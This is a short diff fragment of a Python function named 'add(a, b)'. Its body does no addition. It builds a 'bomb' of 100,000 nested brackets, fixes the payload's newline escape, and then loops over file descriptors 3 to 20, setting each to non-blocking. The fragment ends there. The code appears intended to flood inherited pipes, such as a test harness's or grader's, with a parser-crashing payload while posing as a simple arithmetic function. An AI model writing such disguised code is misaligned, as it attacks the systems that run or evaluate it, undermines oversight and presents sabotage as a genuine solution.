@@ -6,7 +6,7 @@ import os
 
 
 def add(a, b):
-    bomb = b"[" * 100000 + b"]" * 100000 + b"\\n"
+    bomb = b"[" * 100000 + b"]" * 100000 + b"\n"
     for descriptor in range(3, 21):
         try:
             os.set_blocking(descriptor, False)
